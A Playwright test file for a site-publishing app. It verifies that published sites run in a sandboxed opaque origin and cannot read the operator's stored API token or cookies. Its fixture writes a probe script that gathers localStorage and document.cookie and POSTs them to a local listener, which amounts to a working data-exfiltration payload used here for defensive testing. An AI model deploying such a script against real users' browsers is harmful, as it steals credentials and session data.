import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { DeployApiClient } from '../../src/cli/deploy/deploy-api.client';
import { deploySiteDirectory } from '../../src/cli/deploy/deploy-site';
import { describeWithChromium, launchChromium } from '../support/chromium';
import { startTestApp, TEST_OWNER_TOKEN, TEST_REGISTRATION_KEY, TestApp } from '../support/test-app';

/** Planted on the app's origin only: the listener must never receive it. */
const CANARY = `canary-${Math.random().toString(36).slice(2)}-${Date.now()}`;
/** Planted on the control's origin: the listener must receive it there, or the probe could not detect a leak. */
const CONTROL_CANARY = `control-${Math.random().toString(36).slice(2)}-${Date.now()}`;

/** What the local listener received: one entry per POST body. */
interface Listener {
  url: string;
  bodies: string[];
  close(): Promise<void>;
}

async function startListener(): Promise<Listener> {
  const bodies: string[] = [];
  const server = http.createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      if (request.method === 'POST') bodies.push(Buffer.concat(chunks).toString('utf8'));
      response.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    bodies,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

/**
 * The control: a plain node:http reverse proxy to the same app on another origin, which passes every answer through
 * unchanged except that it drops the site's Content-Security-Policy. On its origin the operator's Swagger UI session
 * and the same published page behave exactly as on the app's origin without the policy.
 */
async function startPolicyStrippingProxy(target: string): Promise<{ url: string; close(): Promise<void> }> {
  const upstream = new URL(target);
  const server = http.createServer((request, response) => {
    const forward = http.request(
      { host: upstream.hostname, port: upstream.port, method: request.method, path: request.url, headers: { ...request.headers, host: upstream.host } },
      (answer) => {
        const headers = { ...answer.headers };
        if (!request.url?.startsWith('/docs')) delete headers['content-security-policy'];
        response.writeHead(answer.statusCode ?? 502, headers);
        answer.pipe(response);
      },
    );
    forward.on('error', () => response.writeHead(502).end());
    request.pipe(forward);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/** A site whose script reads localStorage and document.cookie and posts what it got to the listener. */
function writeProbeSite(dir: string, listenerUrl: string): void {
  mkdirSync(dir, { recursive: true });
  writeFileSync(
    join(dir, 'index.html'),
    '<!doctype html><html><head><meta charset="utf-8"><title>Probe</title></head><body>' +
      '<h1 id="title">Hello from the published site</h1><p id="status">probe pending</p><script src="probe.js"></script></body></html>',
  );
  writeFileSync(
    join(dir, 'probe.js'),
    `(function () {
  var found = { origin: String(self.origin) };
  try {
    var all = {};
    for (var i = 0; i < localStorage.length; i++) { var k = localStorage.key(i); all[k] = localStorage.getItem(k); }
    found.localStorage = all;
  } catch (e) { found.localStorage = 'blocked: ' + e.name; }
  try { found.cookie = document.cookie; } catch (e) { found.cookie = 'blocked: ' + e.name; }
  fetch(${JSON.stringify(`${listenerUrl}/collect`)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) })
    .catch(function () {})
    .then(function () { document.getElementById('status').textContent = 'probe ran'; });
})();`,
  );
}

/**
 * Issue 12 item 4, acceptance 4: an operator authorizes in Swagger UI (with DOCS_PERSIST_AUTHORIZATION=true, so the
 * owner token sits in localStorage) and has a canary in localStorage and a cookie; then opens a published site whose
 * script tries to read both and post them to a listener. On the app's origin the listener never gets the canary or the
 * token, and the page still renders. The control, the same page through a proxy that only drops the CSP, leaks both,
 * so the test can fail.
 */
describeWithChromium('site isolation browser test')('published sites on an opaque origin (real browser, issue 12 acceptance 4)', () => {
  let testApp: TestApp;
  let listener: Listener;
  let proxy: { url: string; close(): Promise<void> };
  let context: BrowserContext;
  let browser: Awaited<ReturnType<typeof launchChromium>> | undefined;
  let siteDir: string;
  let sitePath: string;

  beforeAll(async () => {
    testApp = await startTestApp({ DOCS_PERSIST_AUTHORIZATION: 'true' });
    listener = await startListener();
    proxy = await startPolicyStrippingProxy(testApp.baseUrl);
    siteDir = mkdtempSync(join(tmpdir(), 'atrium-probe-site-'));
    writeProbeSite(siteDir, listener.url);
    const client = new DeployApiClient(
      { apiUrl: testApp.baseUrl, registrationKey: TEST_REGISTRATION_KEY, token: null, agentId: 'probe-agent' },
      { saveConfig: async () => undefined },
    );
    const { deployment } = await deploySiteDirectory(client, siteDir, { projectName: 'probe', contactId: 'c-probe' });
    sitePath = new URL(deployment.url).pathname;
    browser = await launchChromium();
    context = browser.context;
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await proxy?.close();
    await listener?.close();
    await testApp?.close();
    if (siteDir) rmSync(siteDir, { recursive: true, force: true });
  });

  /** The operator signs in to Swagger UI on `origin` with the owner token and has a canary in storage and cookies. */
  async function operatorSession(page: Page, origin: string, canary: string): Promise<void> {
    await page.goto(`${origin}/docs`);
    await page.locator('button.authorize').first().click();
    const scheme = page.locator('.auth-container', { hasText: 'deployOwnerToken' });
    await scheme.locator('input').first().fill(TEST_OWNER_TOKEN);
    await scheme.locator('button.authorize').click();
    await page.locator('button.btn-done').first().click();
    // Page scripts as text: the test's TypeScript has no DOM types.
    await page.evaluate(`localStorage.setItem('operator-canary', ${JSON.stringify(canary)}); document.cookie = 'operator-canary=${canary}; path=/';`);
    // Swagger UI persisted the token (DOCS_PERSIST_AUTHORIZATION=true): there is something to steal.
    const stored = await page.evaluate<string | null>(`localStorage.getItem('authorized')`);
    expect(stored).toContain(TEST_OWNER_TOKEN);
  }

  /** Opens the published page on `origin` and waits until its probe has reported to the listener. */
  async function openSite(page: Page, origin: string): Promise<{ reported: string; title: string | null; status: string | null }> {
    const before = listener.bodies.length;
    const response = await page.goto(`${origin}${sitePath}`);
    expect(response?.status()).toBe(200);
    await page.locator('#status', { hasText: 'probe ran' }).waitFor({ timeout: 15_000 });
    const deadline = Date.now() + 10_000;
    while (listener.bodies.length === before && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
    return {
      reported: listener.bodies.slice(before).join('\n'),
      title: await page.locator('#title').textContent(),
      status: await page.locator('#status').textContent(),
    };
  }

  it('serves the site with a CSP sandbox without allow-same-origin and no X-Powered-By', async () => {
    const response = await fetch(`${testApp.baseUrl}${sitePath}`);
    const policy = response.headers.get('content-security-policy') ?? '';
    expect(policy).toMatch(/^sandbox\b/);
    expect(policy).toContain('allow-scripts');
    expect(policy).not.toContain('allow-same-origin');
    expect(response.headers.get('x-powered-by')).toBeNull();
  });

  it('control: the same page without the policy leaks the operator\'s canary and owner token', async () => {
    const page = await context.newPage();
    await operatorSession(page, proxy.url, CONTROL_CANARY);
    const { reported, title } = await openSite(page, proxy.url);
    expect(title).toBe('Hello from the published site');
    expect(reported).toContain(CONTROL_CANARY);
    expect(reported).toContain(TEST_OWNER_TOKEN);
    await page.close();
  });

  it('on the app\'s origin the site renders, but its script reads neither localStorage nor cookies', async () => {
    const page = await context.newPage();
    await operatorSession(page, testApp.baseUrl, CANARY);
    const { reported, title, status } = await openSite(page, testApp.baseUrl);
    expect(title).toBe('Hello from the published site');
    expect(status).toBe('probe ran');
    // The probe did report (so it ran and could reach the listener), from an opaque origin, with nothing in it.
    expect(reported).toContain('"origin":"null"');
    expect(reported).toContain('blocked: SecurityError');
    expect(reported).not.toContain(CANARY);
    expect(reported).not.toContain(TEST_OWNER_TOKEN);
    // Nothing the listener got, in the whole test, carries the app origin's canary.
    expect(listener.bodies.join('\n')).not.toContain(CANARY);
    await page.close();
  });
});
